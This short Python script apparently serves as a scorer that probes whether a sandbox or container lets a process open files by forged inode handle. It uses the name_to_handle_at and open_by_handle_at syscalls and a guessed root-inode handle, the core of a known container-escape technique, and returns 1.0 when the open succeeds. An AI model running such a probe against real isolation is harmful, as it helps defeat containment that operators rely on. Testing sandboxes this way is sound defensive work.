"""Open files by inode, past every path: name_to_handle_at and open_by_handle_at."""

from __future__ import annotations

import ctypes
import os
import struct

NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = 303, 304   # x86-64
AT_FDCWD = -100
HANDLE_BYTES = 128
ROOT_INODE = 2
FILEID_INO32_GEN = 1


def handler():
    libc = ctypes.CDLL(None, use_errno=True)
    for place in ("/", "/usr", "/lib", "/tmp", "."):
        empty = struct.pack("Ii", HANDLE_BYTES, 0)
        handle = ctypes.create_string_buffer(empty, 8 + HANDLE_BYTES)
        mount = ctypes.c_int()
        named = libc.syscall(
            NAME_TO_HANDLE_AT, AT_FDCWD, place.encode(), handle, ctypes.byref(mount), 0
        )
        guess = struct.pack("IiQQ", 8, FILEID_INO32_GEN, ROOT_INODE, 0)
        guessed = ctypes.create_string_buffer(guess, 8 + HANDLE_BYTES)
        try:
            folder = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        for each in (handle, guessed):
            if libc.syscall(OPEN_BY_HANDLE_AT, folder, each, os.O_RDONLY) >= 0:
                return {"score": 1.0, "metadata": {"place": place, "named": named}}
        os.close(folder)
    return 0.0
